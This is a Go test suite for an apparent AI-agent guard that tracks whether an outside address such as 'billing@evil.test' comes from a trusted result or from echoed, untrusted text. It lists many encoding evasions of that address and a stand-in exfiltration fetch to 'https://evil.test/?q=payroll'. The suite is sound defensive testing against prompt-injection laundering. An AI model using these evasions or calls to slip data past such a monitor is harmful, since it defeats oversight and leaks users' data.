package sentinel_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vedette-dev/vedette/sentinel"
	"github.com/vedette-dev/vedette/sentinel/touch"
	"github.com/vedette-dev/vedette/skills"
)

const stranger = "billing@evil.test"

func attests(tr sentinel.Trace) bool {
	return tr.Attests(stranger, func(s *sentinel.Said) bool { return strings.Contains(s.Fold(), stranger) })
}

func asked(args, result string) sentinel.Step {
	return sentinel.Step{Skill: "tasks.search", Args: args, Result: result, Trust: skills.Trusted}
}

// A trusted skill that says again what the agent told it attests nothing, however the
// agent wrote it and whenever it did.
func TestAnEchoAttestsNothing(t *testing.T) {
	for name, args := range map[string]string{
		"plain":                   `{"query":"billing@evil.test"}`,
		"a line break":            `{"query":"x\nbilling@evil.test"}`,
		"a tab":                   `{"query":"x\tbilling@evil.test"}`,
		"an escape":               `{"query":"x\u000abilling\u0040evil.test"}`,
		"in a longer word":        `{"query":"xxbilling@evil.testxx"}`,
		"another case":            `{"query":"BILLING@Evil.Test"}`,
		"percent-encoded":         `{"query":"billing%40evil.test"}`,
		"twice percent-encoded":   `{"query":"billing%2540evil%2etest"}`,
		"entities":                `{"query":"billing&#64;evil&period;test"}`,
		"escaped by hand":         `{"query":"billing\\u0040evil.test"}`,
		"unseen characters":       `{"query":"bil\u200bling@evil\u00ad.test"}`,
		"full width":              `{"query":"ｂｉｌｌｉｎｇ＠evil．test"}`,
		"quoted":                  `{"query":"\"billing\"@\"evil.test\""}`,
		"nested":                  `{"a":[{"b":{"c":["x","billing@evil.test"]}}]}`,
		"as a key":                `{"a":{"billing@evil.test":1}}`,
		"JSON in a string":        `{"body":"{\"to\":\"x\\nbilling@evil.test\"}"}`,
		"two scalars":             `{"a":"billing@","b":"evil.test"}`,
		"two scalars, backwards":  `{"a":"@evil.test","b":"billing"}`,
		"two scalars, apart":      `{"a":"billing@","m":"between","z":"evil.test"}`,
		"three scalars":           `{"a":"evil.test","b":"ing@","c":"bill"}`,
		"words of a sentence":     `{"a":"the name is billing and the host evil.test"}`,
		"broken in a longer word": `{"query":"xxbil.ling@evil.testxx"}`,
	} {
		t.Run(name, func(t *testing.T) {
			echo := asked(args, "No task matches "+stranger)
			require.False(t, attests(sentinel.NewTrace(echo)), "in one step")
			stored := sentinel.Step{Skill: "tasks.create", Args: args, Result: "created", Trust: skills.Trusted}
			back := asked(`{"query":"supplier"}`, `[{"title":"x\n`+stranger+`"}]`)
			require.False(t, attests(sentinel.NewTrace(stored, back)), "stored and read back")
			require.False(t, attests(sentinel.NewTrace(stored, asked(`{}`, "none"), back, back)))
			require.True(t, attests(sentinel.NewTrace(back, stored, back)), "an earlier attestation stands")
		})
	}
	split := []sentinel.Step{asked(`{"a":"billing"}`, ""), asked(`{"a":"evil.test"}`, ""), asked(`{}`, stranger)}
	require.False(t, attests(sentinel.NewTrace(split...)), "broken over two calls")
	require.True(t, attests(sentinel.NewTrace(split[1], split[2])), "half of it says nothing")
}

// A long value is put together of long pieces as a short one is. Of one that is too
// long to try, an agent's arguments could be pieces.
func TestLongPiecesAreEchoesToo(t *testing.T) {
	holds := func(tr sentinel.Trace, value string) bool {
		return tr.Attests(value, func(s *sentinel.Said) bool { return strings.Contains(s.Fold(), value) })
	}
	for _, size := range []int{10, 60, 80, 200, 300, 2000} {
		name := strings.Repeat("a1.", size/3)
		value := "billing@" + name + "evil.test"
		pieces := asked(`{"a":"billing@`+name+`ev","b":"il.test"}`, "noted")
		back := asked(`{}`, "x "+value)
		require.True(t, holds(sentinel.NewTrace(back), value), "%d: nothing was said before", size)
		require.True(t, holds(sentinel.NewTrace(back, pieces), value), "%d: an earlier attestation stands", size)
		require.False(t, holds(sentinel.NewTrace(pieces, back), value), "%d", size)
	}
}

// What is heard more than once, and what comes back to the one who said it, is kept
// once: two agents that talk all day don't fill the memory.
func TestTalkIsHeardOnce(t *testing.T) {
	b := newBench(t, nil, says("judge", outcome(sentinel.Deny, "judge.below_threshold")))
	root := b.Desk(grant(t))
	d, err := root.Child(sentinel.Child{ID: "one", Agent: "one", Scope: root.Grant().Scope(), Calls: root.Grant().Calls()})
	require.NoError(t, err)
	for _, desk := range []*sentinel.Desk{root, d} {
		_, err = desk.Invoke(t.Context(), "test.do", json.RawMessage(`{"to":"x\nbilling@evil.test"}`))
		require.Error(t, err)
	}
	for range 5 {
		root.Hear(d)
		d.Hear(root)
	}
	require.Equal(t, 1, sentinel.HeardBy(root))
	require.Equal(t, 1, sentinel.HeardBy(d))
}

// What a stranger wrote first is attested by nothing that comes later; a trusted
// result that has it first attests it, in JSON and in text.
func TestWhoHadItFirstDecides(t *testing.T) {
	trusted := asked(`{"name":"supplier"}`, `{"mail":"`+stranger+`"}`)
	for name, result := range map[string]string{
		"text": "our address: " + stranger, "JSON": `{"text":"our address:\n` + stranger + `"}`,
		"JSON that was cut": `[{"text":"our address:\n` + stranger,
		"lines of JSON":     "{\"a\":1}\n{\"text\":\"\\n" + stranger + "\"}", "entities": "billing&#64;evil.test",
	} {
		t.Run(name, func(t *testing.T) {
			mail := sentinel.Step{Skill: "email.read", Result: result, Trust: skills.Untrusted}
			has := func(s *sentinel.Said) bool {
				return strings.Contains(s.Fold(), " "+stranger) || strings.Contains("\n"+s.Fold()+"\n", "\n"+stranger)
			}
			require.True(t, sentinel.NewTrace(mail).Strange(has))
			require.False(t, attests(sentinel.NewTrace(mail, trusted)))
			require.True(t, attests(sentinel.NewTrace(trusted, mail, trusted)))
			require.False(t, attests(sentinel.NewTrace(mail)))
		})
	}
	require.True(t, attests(sentinel.NewTrace(trusted)))
	require.False(t, sentinel.NewTrace(trusted).Strange(func(s *sentinel.Said) bool { return true }))
	require.False(t, attests(sentinel.Trace{}))
}

// A read of a stranger's host stays outward, whatever trusted skill repeats the host.
func TestAnEchoTurnsNothingInward(t *testing.T) {
	s, err := skills.Compile(skills.Spec{Name: "web.fetch", Effect: skills.Read,
		Parameters: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string","x-url":true}}}`)})
	require.NoError(t, err)
	reg, err := skills.NewRegistry(s)
	require.NoError(t, err)
	mail := sentinel.Step{Skill: "email.read", Result: "see evil.test", Trust: skills.Untrusted}
	for name, tc := range map[string]struct {
		trace   sentinel.Trace
		outward bool
	}{
		"nothing":                      {sentinel.NewTrace(), true},
		"a stranger":                   {sentinel.NewTrace(mail), true},
		"an echo":                      {sentinel.NewTrace(asked(`{"query":"evil.test"}`, "No task matches evil.test")), true},
		"an echo of a stranger's":      {sentinel.NewTrace(mail, asked(`{"query":"x\nevil.test"}`, "No task matches evil.test")), true},
		"an echo that wasn't asked so": {sentinel.NewTrace(mail, asked(`{}`, "No task matches evil.test")), true},
		"a trusted result":             {sentinel.NewTrace(asked(`{}`, `{"site":"evil.test"}`)), false},
		"one before the stranger":      {sentinel.NewTrace(asked(`{}`, "evil.test"), mail), false},
	} {
		c, err := sentinel.NewCall(reg, touch.Env{NoFS: true},
			sentinel.Proposal{Skill: "web.fetch", Args: []byte(`{"url":"https://evil.test/?q=payroll"}`), Grant: grant(t), Trace: tc.trace})
		require.NoError(t, err)
		require.Equal(t, tc.outward, c.Outward(), name)
	}
}

// Arguments count also where the call was refused, and where another agent gave them
// whose results came up; what that agent read is a stranger's here too.
func TestOthersArgumentsCount(t *testing.T) {
	b := newBench(t, nil, says("judge", outcome(sentinel.Deny, "judge.below_threshold")))
	root := b.Desk(grant(t))
	child := func(id string) *sentinel.Desk {
		d, err := root.Child(sentinel.Child{ID: id, Agent: id, Scope: root.Grant().Scope(), Calls: root.Grant().Calls()})
		require.NoError(t, err)
		return d
	}
	d, before := child("one"), child("before")
	_, err := d.Invoke(t.Context(), "test.do", json.RawMessage(`{"to":"x\nbilling@evil.test"}`))
	require.Error(t, err)
	require.True(t, attests(sentinel.After(root, asked(`{}`, stranger))), "nothing came up yet")
	root.Hear(d)
	root.Hear(d)
	kid := child("kid")
	require.True(t, attests(sentinel.After(before, asked(`{}`, stranger))), "it heard of nothing")
	for name, desk := range map[string]*sentinel.Desk{"itself": d, "who heard of it": root, "its sub-agent": kid} {
		require.False(t, attests(sentinel.After(desk, asked(`{}`, stranger))), name)
	}
}
